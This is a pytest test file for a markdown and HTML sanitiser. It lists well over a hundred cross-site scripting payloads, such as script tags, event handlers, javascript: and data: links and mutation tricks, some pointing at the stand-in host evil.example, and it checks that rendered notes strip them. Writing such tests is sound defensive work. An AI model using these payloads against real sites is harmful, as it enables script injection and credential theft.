"""Notes cannot run scripts, load anything, ask for input or imitate the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from services.markdown.render.render import render, render_inline
from services.markdown.render.sanitise import ATTRIBUTES, CLASSES, TAGS, sanitise

ATTACKS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script
>alert(1)</script
>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src=x OnErRoR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror\t=alert(1)>
<img src=x\x0conerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img srcset="//evil.example/1x 1x, javascript:alert(1) 2x" src=x>
<img src=javascript:alert(1)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html;base64,PHNjcmlwdD4=">
<img src=`javascript:alert(1)`>
<img style="background:url(//evil.example)">
<p style="position:fixed;inset:0">x</p>
<div class="page-head header" role="dialog">x</div>
<b onmouseover=alert(1)>x</b>
<details open ontoggle=alert(1)><summary>x</summary></details>
<body onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<svg></p><style><g title="</style><img src onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert()&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<style>@import '//evil.example/x.css';</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>
<base href=//evil.example/>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=javascript:alert(1)>
<applet code=x></applet>
<form action=//evil.example><input name=password type=password><button>Log in</button></form>
<input type=image src=x onerror=alert(1)>
<input type=text value=x autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<select><option>x</option></select>
<isindex action=javascript:alert(1)>
<video src=x onerror=alert(1)><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<slot name=x onslotchange=alert(1)>
<portal src=//evil.example></portal>
<dialog open>Log in again</dialog>
<a href=javascript:alert(1)>x</a>
<a href=JaVaScRiPt:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java\nscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="VBScript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="&#100;ata:text/html,x">x</a>
<a href="data:image/png;base64,AAAA">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://example.com/x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="x" target=_blank ping=//evil.example download>x</a>
<q cite="javascript:alert(1)">x</q>
<blockquote cite="javascript:alert(1)">x</blockquote>
<table background="javascript:alert(1)"><td background=x>x</table>
<p hx-get="//evil.example" hx-trigger=load>x</p>
<p data-hx-get="//evil.example" data-choose-theme=x>x</p>
<p id=kb-main>x</p>
<h2 id=kb-search>x</h2>
<h2 id="&#107;b-search">x</h2>
<h2 id="&#x6b;b-search">data:</h2>
<a name=kb-main>x</a>
<li id="kb-main">x</li>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml <img src=x onerror=alert(1)>?>
<!ENTITY x "<script>alert(1)</script>">
</p></div></section></main><div id=kb-main>x
<table><tr><td></main><script>alert(1)</script>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](<java\tscript:alert(1)>)
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](\\javascript:alert(1))
[x](java%0ascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,x)
[x](data:image/png;base64,AAAA)
[x](/ "onclick=alert(1) \\" onclick=alert(1)")
[x](/"onclick="alert(1))
[x][y] [y]: javascript:alert(1)
<javascript:alert(1)>
<vbscript:x>
<data:text/html,x>
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](x "onerror=alert(1)")
![" onerror="alert(1)](/x.png)
![[x" onerror="alert(1)]]
[[javascript:alert(1)]]
[["><script>alert(1)</script>]]
[[x#"><script>alert(1)</script>]]
[[x|<img src=x onerror=alert(1)>]]
# "><script>alert(1)</script>
# kb-search
# Kb-main
> [!<script>] x
> [!note]" onclick="alert(1) x
> [!note] <script>alert(1)</script>
> [!x"onclick=alert(1)]
[^"><script>]: x
`<script>alert(1)</script>`
https://example.com/"onclick="alert(1)
https://example.com/<script>alert(1)</script>
www.example.com/'onclick='alert(1)
- [ ] <script>alert(1)</script>
- [/] <img src=x onerror=alert(1)>
| a |<script>alert(1)</script>
""".strip().split("\n")
MORE = (
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '```x" onclick="alert(1)\nx\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <java\u0000script:alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>",
    '<div title="\n\n<script>alert(1)</script>\n\n">',
    "<img src=x\nonerror=alert(1)>",
    "a <img src=x\nonerror=alert(1)> b",
    "<a href='\njavascript:alert(1)'>x</a>",
    "<style>\n*{display:none}\n\n</style>",
    "\u2028<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "＜script＞alert(1)＜/script＞",
)
WEB = re.compile(r"(https?:|mailto:|tel:|[/#?])", re.IGNORECASE)
NAMES = {
    name: TAGS_OF | {"class", "role", "tabindex", "type", "disabled", "rel"}
    for name, TAGS_OF in ((tag, ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"]) for tag in TAGS)
}


class Dangers(HTMLParser):
    """List everything in HTML that notes must not contain."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[object] = []
        self.ids: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
            return
        names = dict(attrs)
        if tag == "input" and (names.get("type"), names.get("disabled")) != (
            "checkbox",
            "disabled",
        ):
            self.found.append((tag, names))
        for name, value in attrs:
            value = value or ""
            if name not in NAMES[tag] or (
                name in ("href", "src", "cite")
                and not WEB.match(value)
                and not (tag == "img" and re.match(r"data:image/(png|jpeg|gif|webp);", value))
            ):
                self.found.append((tag, name, value))
            if name == "class" and not set(value.split()) <= CLASSES.get(tag, set()):
                self.found.append((tag, name, value))
            if name in ("id", "name"):
                self.ids.append(value)

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", decl))

    def handle_pi(self, data: str) -> None:
        self.found.append(("instruction", data))


def dangers(html: str) -> list[object]:
    found = Dangers(html)
    return found.found + [name for name in found.ids if name.startswith("kb-")]


@pytest.mark.parametrize("attack", [*ATTACKS, *MORE])
def test_an_attack_leaves_nothing_dangerous(attack):
    for text in (attack, f"words {attack} words", f"> - {attack}", f"data: {attack}"):
        assert dangers(render(text).html) == []
        assert dangers(render(text, {"x": "/x"}, {"x": "/x.png"}).html) == []
        assert dangers(render_inline(text)) == []
    assert dangers(sanitise(attack)) == []


@pytest.mark.parametrize("attack", [*ATTACKS, *MORE])
def test_what_follows_an_attack_can_still_be_read(attack):
    closing = "\n```\n" if attack.startswith("```") else "\n"
    html = render(f"{attack.removesuffix('```')}{closing}\n\nThe next paragraph.\n").html
    assert "The next paragraph." in html


def test_dangers_are_found():
    assert dangers("<script>x</script>") == ["script"]
    assert dangers('<a href="javascript:x">x</a>') == [("a", "href", "javascript:x")]
    assert dangers('<p onclick="x">x</p>') == [("p", "onclick", "x")]
    assert dangers('<div class="header">x</div>') == [("div", "class", "header")]
    assert dangers('<input type="text">') == [("input", {"type": "text"})]
    assert dangers('<h2 id="kb-main">x</h2>') == ["kb-main"]


@pytest.mark.parametrize(
    "html",
    [
        "<details>\n<summary>More</summary>\n<p>Text</p>\n</details>",
        "<details open>\n<summary>More</summary>\n</details>".replace("open", 'open=""'),
        "<p>Press <kbd>Ctrl</kbd></p>",
        "<p>H<sub>2</sub>O, x<sup>2</sup></p>",
        "<p>a<br>b</p>",
        "<table>\n<tbody><tr><td>1</td><td>2</td></tr></tbody>\n</table>",
        '<p><img src="https://example.com/a.png" alt="A" width="300"></p>',
        '<p>A <abbr title="Simple Storage Service">S3</abbr></p>',
        "<p><mark>marked</mark> <ins>new</ins> <del>old</del></p>",
        '<h3 id="own-anchor">Own</h3>',
        "<dl>\n<dt>Term</dt>\n<dd>Meaning</dd>\n</dl>",
    ],
)
def test_harmless_html_stays(html):
    assert render(html).html.strip() == html


@pytest.mark.parametrize("name", ["bucket", "bucket-name", "path", "text", "YOUR_KEY", "a.b"])
def test_a_placeholder_is_no_html_and_stays_to_be_read(name):
    html = render(f"Run `aws` with <{name}> and\n\nthen look.\n\n<{name}>\nx").html
    assert html.count(f"&lt;{name}&gt;") == 2
    assert "<p>then look.</p>" in html


def test_links_send_nothing_to_other_sites():
    assert 'rel="noopener noreferrer"' in render("[x](https://example.com)").html


def test_pictures_in_the_text_may_be_raster_only():
    png = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{png}"' in render(f"![x]({png})").html
    assert "svg" not in render("![x](data:image/svg+xml;base64,PHN2Zz4=)").html


def test_a_raw_heading_cannot_take_the_place_of_a_part_of_the_page():
    assert render('<h2 id="kb-search">x</h2>').html.strip() == "<h2>x</h2>"
    assert render('<h2 id="fine">kb-search</h2>').html.strip() == '<h2 id="fine">kb-search</h2>'


def test_words_that_look_like_an_attribute_are_words():
    assert render('say id="kb-main" twice').html == '<p>say id="kb-main" twice</p>\n'
